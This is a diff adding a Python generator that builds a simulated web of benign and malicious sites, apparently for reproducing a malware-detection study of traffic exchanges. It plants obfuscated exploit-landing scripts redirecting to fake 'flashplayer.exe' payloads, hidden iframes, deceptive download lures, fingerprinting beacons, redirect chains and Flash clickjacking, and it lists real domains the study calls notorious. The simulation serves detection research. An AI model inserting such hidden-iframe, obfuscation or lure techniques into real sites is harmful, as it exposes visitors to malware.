@@ -1,0 +1,649 @@
+"""Synthetic web generator.
+
+Builds the study's world: per-exchange pools of member sites (benign and
+malicious, calibrated from Tables I-II), the shared infrastructure the
+crawl observes across all exchanges (ajax.googleapis.com and friends,
+the AdHitz-like ad network, popular destinations), malware-hosting
+domains used as hidden-iframe targets, redirect-bridge hosts, payload
+hosts, and shortener entries.
+
+Every malicious artifact is planted by the :mod:`repro.malware`
+generators and therefore *actually works* in the analysis sandboxes;
+ground truth lives only in ``Site.truth``/``Page.truth`` for evaluation.
+"""
+
+from __future__ import annotations
+
+import random
+from dataclasses import dataclass, field
+from typing import Dict, List, Optional, Sequence, Tuple
+
+from ..exchanges.roster import EXCHANGE_PROFILES, ExchangeProfile
+from ..malware import (
+    ad_placeholder,
+    benign_helper_script,
+    benign_looking_include,
+    build_chain,
+    build_flash_ad_kit,
+    deceptive_download_bar,
+    fingerprinting_script,
+    google_analytics_snippet,
+    google_oauth_relay_iframe,
+    invisible_iframe,
+    js_injected_iframe,
+    make_executable,
+    obfuscate,
+    paragraphs,
+    random_layers,
+    redirect_script_body,
+    rotating_targets,
+    tiny_iframe,
+)
+from .categories import (
+    BENIGN_CATEGORY_SAMPLER,
+    CATEGORY_TOPICS,
+    MALICIOUS_CATEGORY_SAMPLER,
+    ContentCategory,
+)
+from .naming import NameForge
+from .registry import WebRegistry
+from .site import GroundTruth, MalwareFamily, Page, RedirectHop, Resource, Site
+from .tlds import BENIGN_TLD_WEIGHTS, MALICIOUS_TLD_WEIGHTS, WeightedChoice
+
+__all__ = ["WebGenerationConfig", "ExchangePool", "GeneratedWeb", "WebGenerator"]
+
+#: mix of ground-truth families among malicious member sites, tuned so the
+#: analysis pipeline's Table III comes out paper-shaped
+DEFAULT_FAMILY_WEIGHTS: Dict[MalwareFamily, float] = {
+    MalwareFamily.IFRAME_TINY: 16.0,
+    MalwareFamily.IFRAME_INVISIBLE: 12.0,
+    MalwareFamily.IFRAME_JS_INJECTED: 20.0,
+    MalwareFamily.DECEPTIVE_DOWNLOAD: 16.0,
+    MalwareFamily.FINGERPRINTING: 10.0,
+    MalwareFamily.BLACKLISTED_HOST: 21.0,
+    MalwareFamily.MALICIOUS_JS_FILE: 17.0,
+    MalwareFamily.SUSPICIOUS_REDIRECT: 3.5,
+    MalwareFamily.MALICIOUS_SHORTENED: 0.3,
+    MalwareFamily.MALICIOUS_FLASH: 0.6,
+}
+
+
+@dataclass
+class WebGenerationConfig:
+    """Knobs for the synthetic web."""
+
+    seed: int = 2016
+    scale: float = 0.05
+    family_weights: Dict[MalwareFamily, float] = field(
+        default_factory=lambda: dict(DEFAULT_FAMILY_WEIGHTS)
+    )
+    pages_per_site: Tuple[int, int] = (1, 3)
+    #: benign-page dressing rates
+    ga_snippet_rate: float = 0.30
+    ad_slot_rate: float = 0.35
+    oauth_bait_rate: float = 0.03
+    #: how many shared "notorious" malicious domains appear across pools
+    shared_malicious_sites: int = 6
+    #: pool of dedicated malware-hosting domains (iframe targets)
+    malware_host_count: int = 24
+    #: redirect-bridge intermediary hosts (admarketplace-like)
+    bridge_host_count: int = 6
+    #: payload-hosting domains (yupfiles-like)
+    payload_host_count: int = 4
+    redirect_chain_lengths: Tuple[int, ...] = (1, 1, 2, 2, 2, 3, 3, 4, 5, 6, 7)
+
+
+@dataclass
+class ExchangePool:
+    """One exchange's member-site roster."""
+
+    profile: ExchangeProfile
+    benign: List[Site] = field(default_factory=list)
+    malicious: List[Site] = field(default_factory=list)
+
+    @property
+    def sites(self) -> List[Site]:
+        return self.benign + self.malicious
+
+
+@dataclass
+class GeneratedWeb:
+    """Everything the generator produced."""
+
+    registry: WebRegistry
+    config: WebGenerationConfig
+    pools: Dict[str, ExchangePool] = field(default_factory=dict)
+    malware_hosts: List[Site] = field(default_factory=list)
+    bridge_hosts: List[str] = field(default_factory=list)
+    payload_hosts: List[Site] = field(default_factory=list)
+    ad_network_host: str = ""
+    #: domains blacklist maintainers know about (curated bad population)
+    known_bad_domains: List[str] = field(default_factory=list)
+    #: long-notorious domains guaranteed onto several blacklists
+    notorious_domains: List[str] = field(default_factory=list)
+    popular_urls: List[str] = field(default_factory=list)
+
+    def pool(self, exchange_name: str) -> ExchangePool:
+        return self.pools[exchange_name]
+
+    @property
+    def benign_domains(self) -> List[str]:
+        return [s.host for s in self.registry.sites(malicious=False)]
+
+
+class WebGenerator:
+    """Builds a :class:`GeneratedWeb` from a config."""
+
+    #: the named bad domains from Section IV-A3 (seeded as notorious)
+    NAMED_BAD_DOMAINS = ("luckyleap.net", "visadd.com", "380tl.com", "promo.esy.es", "stats.atw.hu", "counter.yadro.ru")
+
+    def __init__(self, config: Optional[WebGenerationConfig] = None,
+                 profiles: Sequence[ExchangeProfile] = EXCHANGE_PROFILES) -> None:
+        self.config = config or WebGenerationConfig()
+        self.profiles = list(profiles)
+        self.rng = random.Random(self.config.seed)
+        self.forge = NameForge(self.rng)
+        self._benign_tlds = WeightedChoice(BENIGN_TLD_WEIGHTS)
+        self._malicious_tlds = WeightedChoice(MALICIOUS_TLD_WEIGHTS)
+        self._family_sampler = WeightedChoice(
+            {f.value: w for f, w in self.config.family_weights.items()}
+        )
+
+    # ------------------------------------------------------------------
+    def build(self) -> GeneratedWeb:
+        registry = WebRegistry(self.rng)
+        web = GeneratedWeb(registry=registry, config=self.config)
+
+        self._build_infrastructure(web)
+        self._build_popular_sites(web)
+        self._build_malware_hosts(web)
+        self._build_payload_hosts(web)
+        self._build_bridges(web)
+
+        shared_malicious = self._build_shared_malicious(web)
+        for prof in self.profiles:
+            web.pools[prof.name] = self._build_pool(web, prof, shared_malicious)
+        return web
+
+    # ------------------------------------------------------------------
+    # Infrastructure
+    # ------------------------------------------------------------------
+    def _build_infrastructure(self, web: GeneratedWeb) -> None:
+        registry = web.registry
+        analytics = Site("www.google-analytics.com", ContentCategory.INFORMATION_TECHNOLOGY,
+                         GroundTruth(False))
+        analytics.add_resource(Resource("/analytics.js", "application/javascript",
+                                        b"(function(){/* analytics bootstrap */})();"))
+        registry.add(analytics)
+
+        ajax = Site("ajax.googleapis.com", ContentCategory.INFORMATION_TECHNOLOGY, GroundTruth(False))
+        ajax.add_resource(Resource("/ajax/libs/jquery/1.11.3/jquery.min.js",
+                                   "application/javascript", b"/* jquery (simulated) */"))
+        registry.add(ajax)
+
+        accounts = Site("accounts.google.com", ContentCategory.INFORMATION_TECHNOLOGY, GroundTruth(False))
+        accounts.add_page(Page("/o/oauth2/postmessageRelay", "OAuth Relay",
+                               "<html><body><script>var relay = true;</script></body></html>"))
+        registry.add(accounts)
+
+        ad_network = Site("adhitzads.com", ContentCategory.ADVERTISEMENT, GroundTruth(False))
+        ad_network.add_resource(Resource(
+            "/show.js", "application/javascript",
+            b"document.write('<div class=\"sponsored\">sponsored banner</div>');",
+        ))
+        registry.add(ad_network)
+        web.ad_network_host = ad_network.host
+
+    def _build_popular_sites(self, web: GeneratedWeb) -> None:
+        for host, title in (
+            ("www.google.com", "Google"),
+            ("www.facebook.com", "Facebook"),
+            ("www.youtube.com", "YouTube"),
+        ):
+            site = Site(host, ContentCategory.SOCIAL, GroundTruth(False))
+            site.add_page(Page("/", title, "<html><head><title>%s</title></head>"
+                                            "<body><h1>%s</h1></body></html>" % (title, title)))
+            web.registry.add(site)
+            web.popular_urls.append(site.url("/"))
+        # video watch pages — exchanges point at these for bogus views
+        web.popular_urls.append("http://www.youtube.com/")
+        web.popular_urls.append("http://www.google.com/")
+
+    def _build_malware_hosts(self, web: GeneratedWeb) -> None:
+        """Dedicated malware-hosting domains: hidden-iframe targets.
+
+        Only the long-notorious named domains are known to blacklist
+        maintainers; the rest are *fresh* hosts that content scanners
+        must catch on their own — they land in the miscellaneous bucket
+        of Table III, like the paper's un-drilldown-able majority.
+        """
+        hosts: List[str] = list(self.NAMED_BAD_DOMAINS)
+        while len(hosts) < self.config.malware_host_count:
+            hosts.append(self.forge.domain("other", self._malicious_tlds.sample(self.rng)))
+        for host in hosts:
+            established = host in self.NAMED_BAD_DOMAINS
+            site = Site(host, ContentCategory.ADVERTISEMENT,
+                        GroundTruth(True, MalwareFamily.BLACKLISTED_HOST, "malware host"))
+            exploit = self._exploit_landing_html(host)
+            site.add_page(Page("/", "untitled", exploit,
+                               GroundTruth(True, MalwareFamily.BLACKLISTED_HOST, "exploit landing")))
+            site.add_page(Page("/ai.aspx", "untitled", exploit,
+                               GroundTruth(True, MalwareFamily.BLACKLISTED_HOST, "exploit landing")))
+            web.registry.add(site)
+            web.malware_hosts.append(site)
+            if established:
+                web.known_bad_domains.append(host)
+        web.notorious_domains.extend(self.NAMED_BAD_DOMAINS)
+
+    def _exploit_landing_html(self, host: str) -> str:
+        """What a malware-hosting page serves: packed exploit JS."""
+        payload_js = (
+            "var sc = unescape('%%u9090%%u9090'); "
+            "window.location.href = 'http://%s/flashplayer.exe';" % host
+        )
+        packed = obfuscate(payload_js, random_layers(self.rng, 2), self.rng)
+        return "<html><body><script>%s</script></body></html>" % packed
+
+    def _build_payload_hosts(self, web: GeneratedWeb) -> None:
+        for index in range(self.config.payload_host_count):
+            host = "cdn%d.yupfiles%s.net" % (index, self.forge.token(3))
+            site = Site(host, ContentCategory.INFORMATION_TECHNOLOGY,
+                        GroundTruth(True, MalwareFamily.DECEPTIVE_DOWNLOAD, "payload host"))
+            for name in ("flashplayer.exe", "Flash-Player.exe", "video_codec.exe"):
+                site.add_resource(Resource(
+                    "/files/" + name, "application/x-msdownload",
+                    make_executable(self.rng, malicious=True),
+                    GroundTruth(True, MalwareFamily.DECEPTIVE_DOWNLOAD, "payload"),
+                ))
+            web.registry.add(site)
+            web.payload_hosts.append(site)
+            web.known_bad_domains.append(host)
+
+    def _build_bridges(self, web: GeneratedWeb) -> None:
+        """Ad-bridge hosts whose paths 302 onward (chain intermediaries).
+
+        The redirect targets are registered lazily when chains are built;
+        here we only mint the hosts.
+        """
+        for index in range(self.config.bridge_host_count):
+            host = "bridge%d.%s.net" % (index, self.forge.token(4))
+            site = Site(host, ContentCategory.ADVERTISEMENT,
+                        GroundTruth(True, MalwareFamily.SUSPICIOUS_REDIRECT, "redirect bridge"))
+            web.registry.add(site)
+            web.bridge_hosts.append(host)
+
+    # ------------------------------------------------------------------
+    # Member sites
+    # ------------------------------------------------------------------
+    def _build_shared_malicious(self, web: GeneratedWeb) -> List[Site]:
+        """Malicious member sites listed on several exchanges.
+
+        The paper observes domains like visadd.com across most
+        exchanges; they are *fresh* malware (content-detected), not
+        blacklist entries — listing them everywhere is how they spread.
+        """
+        shared: List[Site] = []
+        for index in range(self.config.shared_malicious_sites):
+            family = (MalwareFamily.IFRAME_TINY if index % 2 == 0
+                      else MalwareFamily.IFRAME_JS_INJECTED)
+            shared.append(self._make_malicious_site(web, family))
+        return shared
+
+    def _build_pool(self, web: GeneratedWeb, prof: ExchangeProfile,
+                    shared_malicious: List[Site]) -> ExchangePool:
+        pool = ExchangePool(profile=prof)
+        domains = prof.scaled_domains(self.config.scale)
+        malicious_count = max(2, round(domains * prof.malicious_domain_rate))
+        benign_count = max(10, domains - malicious_count)
+
+        for _ in range(benign_count):
+            pool.benign.append(self._make_benign_site(web))
+
+        pool.malicious.extend(shared_malicious)
+        self._category_quota: List[str] = []
+        remaining = max(0, malicious_count - len(shared_malicious))
+        # large pools always carry the rare families so every exchange's
+        # data contains shortened/flash/redirect examples (as the paper's
+        # Table IV rows span many exchanges)
+        guaranteed: List[MalwareFamily] = []
+        if remaining >= 8:
+            guaranteed = [
+                MalwareFamily.MALICIOUS_SHORTENED,
+                MalwareFamily.MALICIOUS_FLASH,
+                MalwareFamily.SUSPICIOUS_REDIRECT,
+            ]
+        self._category_quota = self._allocate_categories(remaining)
+        for family in guaranteed:
+            pool.malicious.append(self._make_malicious_site(web, family))
+        for family in self._allocate_families(remaining - len(guaranteed)):
+            pool.malicious.append(self._make_malicious_site(web, family))
+        return pool
+
+    def _allocate_categories(self, count: int) -> List[str]:
+        """Stratified content-category allocation for malicious sites.
+
+        Keeps every pool's category mix on the Figure 7 shape instead of
+        leaving it to small-sample luck (SendSurf's handful of malicious
+        sites carries half the malicious traffic).
+        """
+        from .categories import MALICIOUS_CATEGORY_WEIGHTS
+
+        if count <= 0:
+            return []
+        total = sum(MALICIOUS_CATEGORY_WEIGHTS.values())
+        quotas = {c: count * w / total for c, w in MALICIOUS_CATEGORY_WEIGHTS.items()}
+        allocated = {c: int(q) for c, q in quotas.items()}
+        leftover = count - sum(allocated.values())
+        for category, _q in sorted(quotas.items(), key=lambda kv: kv[1] - int(kv[1]), reverse=True):
+            if leftover <= 0:
+                break
+            allocated[category] += 1
+            leftover -= 1
+        out: List[str] = []
+        for category, n in allocated.items():
+            out.extend([category] * n)
+        self.rng.shuffle(out)
+        return out
+
+    def _allocate_families(self, count: int) -> List[MalwareFamily]:
+        """Stratified family allocation (largest-remainder method).
+
+        Independent sampling makes small pools (SendSurf lists few
+        malicious domains but they dominate its traffic) wildly variable
+        in family mix, which distorts the global Table III; proportional
+        allocation keeps every pool on the configured mix.
+        """
+        if count <= 0:
+            return []
+        weights = self.config.family_weights
+        total = sum(weights.values())
+        quotas = {f: count * w / total for f, w in weights.items()}
+        allocated = {f: int(q) for f, q in quotas.items()}
+        leftover = count - sum(allocated.values())
+        for family, _q in sorted(quotas.items(), key=lambda kv: kv[1] - int(kv[1]), reverse=True):
+            if leftover <= 0:
+                break
+            allocated[family] += 1
+            leftover -= 1
+        out: List[MalwareFamily] = []
+        for family, n in allocated.items():
+            out.extend([family] * n)
+        self.rng.shuffle(out)
+        return out
+
+    # -- benign ------------------------------------------------------------
+    def _make_benign_site(self, web: GeneratedWeb) -> Site:
+        category = ContentCategory(BENIGN_CATEGORY_SAMPLER.sample(self.rng))
+        host = self.forge.domain(category.value, self._benign_tlds.sample(self.rng))
+        site = Site(host, category, GroundTruth(False))
+        page_count = self.rng.randrange(*self.config.pages_per_site) if self.config.pages_per_site[1] > self.config.pages_per_site[0] else 1
+        for index in range(max(1, page_count)):
+            path = "/" if index == 0 else self.forge.path()
+            site.add_page(self._benign_page(web, site, path))
+        web.registry.add(site)
+        return site
+
+    def _benign_page(self, web: GeneratedWeb, site: Site, path: str) -> Page:
+        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
+        title = self.forge.title(site.host, topic)
+        parts: List[str] = [paragraphs(self.rng, topic, count=self.rng.randrange(2, 5))]
+        subresources: List[str] = []
+        truth = GroundTruth(False)
+
+        if self.rng.random() < self.config.ad_slot_rate:
+            parts.append(ad_placeholder(self.rng, "http://%s" % web.ad_network_host))
+            subresources.append("http://%s/show.js?slot=1" % web.ad_network_host)
+        if self.rng.random() < self.config.ga_snippet_rate:
+            parts.append(google_analytics_snippet(self.rng))
+            subresources.append("http://www.google-analytics.com/analytics.js")
+        if self.rng.random() < self.config.oauth_bait_rate:
+            parts.append(google_oauth_relay_iframe(self.rng, site.url(path)))
+            subresources.append(
+                "https://accounts.google.com/o/oauth2/postmessageRelay?parent=%s" % site.host
+            )
+            truth = GroundTruth(False, benign_lookalike=True)
+        if self.rng.random() < 0.4:
+            parts.append(benign_helper_script(self.rng))
+
+        html = self._page_shell(title, topic, "\n".join(parts))
+        return Page(path=path, title=title, html=html, truth=truth,
+                    subresource_urls=subresources)
+
+    @staticmethod
+    def _page_shell(title: str, topic: str, body: str) -> str:
+        return (
+            "<html><head><title>%s</title><meta name=\"keywords\" content=\"%s\"></head>"
+            "<body><h1>%s</h1>\n%s\n</body></html>" % (title, topic, title, body)
+        )
+
+    # -- malicious -----------------------------------------------------------
+    def _make_malicious_site(self, web: GeneratedWeb, family: MalwareFamily) -> Site:
+        if getattr(self, "_category_quota", None):
+            category = ContentCategory(self._category_quota.pop())
+        else:
+            category = ContentCategory(MALICIOUS_CATEGORY_SAMPLER.sample(self.rng))
+        host = self.forge.domain(category.value, self._malicious_tlds.sample(self.rng))
+        site = Site(host, category, GroundTruth(True, family))
+        builder = {
+            MalwareFamily.IFRAME_TINY: self._fill_iframe_site,
+            MalwareFamily.IFRAME_INVISIBLE: self._fill_iframe_site,
+            MalwareFamily.IFRAME_JS_INJECTED: self._fill_iframe_site,
+            MalwareFamily.DECEPTIVE_DOWNLOAD: self._fill_download_site,
+            MalwareFamily.FINGERPRINTING: self._fill_fingerprinting_site,
+            MalwareFamily.BLACKLISTED_HOST: self._fill_blacklisted_site,
+            MalwareFamily.MALICIOUS_JS_FILE: self._fill_js_file_site,
+            MalwareFamily.SUSPICIOUS_REDIRECT: self._fill_redirector_site,
+            MalwareFamily.MALICIOUS_SHORTENED: self._fill_shortened_site,
+            MalwareFamily.MALICIOUS_FLASH: self._fill_flash_site,
+        }[family]
+        builder(web, site, family)
+        web.registry.add(site)
+        return site
+
+    def _malicious_base_parts(self, web: GeneratedWeb, site: Site) -> Tuple[List[str], List[str]]:
+        """Benign-looking dressing shared by malicious member pages."""
+        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
+        parts = [paragraphs(self.rng, topic, count=2)]
+        subresources: List[str] = []
+        if self.rng.random() < 0.5:
+            parts.append(ad_placeholder(self.rng, "http://%s" % web.ad_network_host))
+            subresources.append("http://%s/show.js?slot=2" % web.ad_network_host)
+        return parts, subresources
+
+    def _frame_target_url(self, web: GeneratedWeb) -> str:
+        host_site = self.rng.choice(web.malware_hosts)
+        path = "/" if self.rng.random() < 0.5 else "/ai.aspx"
+        return host_site.url(path)
+
+    def _fill_iframe_site(self, web: GeneratedWeb, site: Site, family: MalwareFamily) -> None:
+        parts, subresources = self._malicious_base_parts(web, site)
+        target = self._frame_target_url(web)
+        if family is MalwareFamily.IFRAME_TINY:
+            snippet = tiny_iframe(self.rng, target)
+        elif family is MalwareFamily.IFRAME_INVISIBLE:
+            snippet = invisible_iframe(self.rng, target, exfiltrate=self.rng.random() < 0.6)
+        else:
+            snippet = js_injected_iframe(
+                self.rng, target, obfuscation_depth=self.rng.randrange(1, 4),
+                beacon_url=("%s1x1.gif" % target.rsplit("/", 1)[0] + "/") if self.rng.random() < 0.4 else None,
+            )
+        parts.append(snippet.html)
+        subresources.append(snippet.frame_src)
+        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
+        page = Page(
+            path="/", title=self.forge.title(site.host, topic),
+            html=self._page_shell(self.forge.title(site.host, topic), topic, "\n".join(parts)),
+            truth=GroundTruth(True, family, snippet.hidden_mechanism),
+            subresource_urls=subresources,
+        )
+        site.add_page(page)
+
+    def _fill_download_site(self, web: GeneratedWeb, site: Site, family: MalwareFamily) -> None:
+        parts, subresources = self._malicious_base_parts(web, site)
+        payload_host = self.rng.choice(web.payload_hosts)
+        payload_url = payload_host.url("/files/flashplayer.exe")
+        lure = deceptive_download_bar(self.rng, payload_url)
+        parts.append(lure.html)
+        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
+        site.add_page(Page(
+            path="/", title=self.forge.title(site.host, topic),
+            html=self._page_shell(self.forge.title(site.host, topic), topic, "\n".join(parts)),
+            truth=GroundTruth(True, family, lure.payload_name),
+            subresource_urls=subresources,
+        ))
+
+    def _fill_fingerprinting_site(self, web: GeneratedWeb, site: Site, family: MalwareFamily) -> None:
+        parts, subresources = self._malicious_base_parts(web, site)
+        beacon_host = self.rng.choice(web.malware_hosts).host
+        snippet = fingerprinting_script(
+            self.rng, "http://%s/collect.gif" % beacon_host,
+            obfuscation_depth=self.rng.randrange(0, 2),
+        )
+        parts.append(snippet)
+        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
+        site.add_page(Page(
+            path="/", title=self.forge.title(site.host, topic),
+            html=self._page_shell(self.forge.title(site.host, topic), topic, "\n".join(parts)),
+            truth=GroundTruth(True, family, "mouse fingerprinting"),
+            subresource_urls=subresources,
+        ))
+
+    def _fill_blacklisted_site(self, web: GeneratedWeb, site: Site, family: MalwareFamily) -> None:
+        """An established bad domain: pages look ordinary; one or two also
+        carry light malware.  The domain itself goes to the curated bad
+        population that blacklists sample from."""
+        parts, subresources = self._malicious_base_parts(web, site)
+        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
+        if self.rng.random() < 0.5:
+            target = self._frame_target_url(web)
+            snippet = tiny_iframe(self.rng, target)
+            parts.append(snippet.html)
+            subresources.append(snippet.frame_src)
+        site.add_page(Page(
+            path="/", title=self.forge.title(site.host, topic),
+            html=self._page_shell(self.forge.title(site.host, topic), topic, "\n".join(parts)),
+            truth=GroundTruth(True, family, "blacklisted domain"),
+            subresource_urls=subresources,
+        ))
+        extra_path = self.forge.path()
+        site.add_page(Page(
+            path=extra_path, title=self.forge.title(site.host, topic),
+            html=self._page_shell(self.forge.title(site.host, topic), topic,
+                                  paragraphs(self.rng, topic, 2)),
+            truth=GroundTruth(True, family, "blacklisted domain"),
+        ))
+        web.known_bad_domains.append(site.host)
+
+    def _fill_js_file_site(self, web: GeneratedWeb, site: Site, family: MalwareFamily) -> None:
+        parts, subresources = self._malicious_base_parts(web, site)
+        target = self._frame_target_url(web)
+        core = js_injected_iframe(self.rng, target, obfuscation_depth=0).html
+        core_js = core.removeprefix('<script type="text/javascript">').removesuffix("</script>")
+        packed = obfuscate(core_js, random_layers(self.rng, self.rng.randrange(1, 3)), self.rng)
+        js_path = "/js/%s.js" % self.forge.token(8)
+        site.add_resource(Resource(
+            js_path, "application/javascript", packed.encode("utf-8"),
+            GroundTruth(True, family, "packed injector"),
+        ))
+        js_url = site.url(js_path)
+        parts.append('<script type="text/javascript" src="%s"></script>' % js_url)
+        subresources.append(js_url)
+        subresources.append(target)
+        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
+        site.add_page(Page(
+            path="/", title=self.forge.title(site.host, topic),
+            html=self._page_shell(self.forge.title(site.host, topic), topic, "\n".join(parts)),
+            truth=GroundTruth(True, family, "hosts packed js"),
+            subresource_urls=subresources,
+        ))
+
+    def _fill_redirector_site(self, web: GeneratedWeb, site: Site, family: MalwareFamily) -> None:
+        """Entry site whose page silently redirects through bridges."""
+        length = self.rng.choice(self.config.redirect_chain_lengths)
+        destination = self._redirect_destination(web)
+        entry_path = "/%s.php" % self.forge.token(8)
+        entry_url = site.url(entry_path)
+        chain = build_chain(self.rng, entry_url, web.bridge_hosts, destination, length)
+        # install each hop on its owning host
+        for index, hop in enumerate(chain.hops):
+            from .url import Url
+            hop_url = Url.parse(chain.urls[index])
+            # the entry hop lives on this site (not yet registered)
+            owner = site if hop_url.host == site.host else web.registry.site(hop_url.host)
+            if owner is not None:
+                owner.behavior.redirects[hop_url.path] = hop
+        # some redirectors rotate targets per request (Figure 9)
+        if self.rng.random() < 0.3:
+            rotate_path = "/%s.php" % self.forge.token(8)
+            candidates = [self._redirect_destination(web) for _ in range(4)]
+            site.behavior.rotating_redirects[rotate_path] = rotating_targets(self.rng, candidates)
+
+        # the landing page members actually list: benign look + JS include
+        include_js_path = "/t%s.js" % self.forge.token(6)
+        site.add_resource(Resource(
+            include_js_path, "application/javascript",
+            redirect_script_body(entry_url, self.rng).encode("utf-8"),
+            GroundTruth(True, family, "redirect script"),
+        ))
+        parts, subresources = self._malicious_base_parts(web, site)
+        parts.append(benign_looking_include(site.url(include_js_path)))
+        subresources.append(site.url(include_js_path))
+        subresources.append(entry_url)
+        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
+        site.add_page(Page(
+            path="/", title=self.forge.title(site.host, topic),
+            html=self._page_shell(self.forge.title(site.host, topic), topic, "\n".join(parts)),
+            truth=GroundTruth(True, family, "chain length %d" % length),
+            subresource_urls=subresources,
+        ))
+
+    def _redirect_destination(self, web: GeneratedWeb) -> str:
+        roll = self.rng.random()
+        if roll < 0.5 and web.malware_hosts:
+            return self._frame_target_url(web)
+        if roll < 0.8 and web.payload_hosts:
+            return self.rng.choice(web.payload_hosts).url("/files/flashplayer.exe")
+        return "http://www.theclickcheck%s.com/?sub=%d" % (
+            self.forge.token(3), self.rng.randrange(10**9),
+        )
+
+    def _fill_shortened_site(self, web: GeneratedWeb, site: Site, family: MalwareFamily) -> None:
+        """A site listed via malicious shortened URLs.
+
+        The site itself carries a deceptive download; members list the
+        *short* URL (sometimes nested) so the listing evades URL checks.
+        """
+        self._fill_download_site(web, site, family)
+        page = next(iter(site.pages.values()))
+        page.truth = GroundTruth(True, family, "behind short URL")
+        directory = web.registry.shorteners
+        host = self.rng.choice(list(directory.services))
+        short = directory.shorten(host, site.url("/"))
+        if self.rng.random() < 0.3:  # nested shortening
+            outer_host = self.rng.choice(list(directory.services))
+            short = directory.shorten(outer_host, short)
+        site.truth.detail = short
+
+    def _fill_flash_site(self, web: GeneratedWeb, site: Site, family: MalwareFamily) -> None:
+        parts, subresources = self._malicious_base_parts(web, site)
+        popup = "http://%s/pop?c=%d" % (
+            self.rng.choice(web.malware_hosts).host, self.rng.randrange(10**6),
+        )
+        kit = build_flash_ad_kit(self.rng, site.url("").rstrip("/"), popup,
+                                 obfuscation_depth=self.rng.randrange(1, 3))
+        site.add_resource(Resource(kit.swf_path, "application/x-shockwave-flash",
+                                   kit.swf_bytes,
+                                   GroundTruth(True, family, "AdFlash")))
+        site.add_resource(Resource(kit.loader_path, "application/javascript",
+                                   kit.loader_js.encode("utf-8"),
+                                   GroundTruth(True, family, "loader")))
+        parts.append(kit.embed_html)
+        subresources.append(site.url(kit.loader_path))
+        subresources.append(site.url(kit.swf_path))
+        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
+        site.add_page(Page(
+            path="/", title=self.forge.title(site.host, topic),
+            html=self._page_shell(self.forge.title(site.host, topic), topic, "\n".join(parts)),
+            truth=GroundTruth(True, family, "flash clickjacking"),
+            subresource_urls=subresources,
+        ))
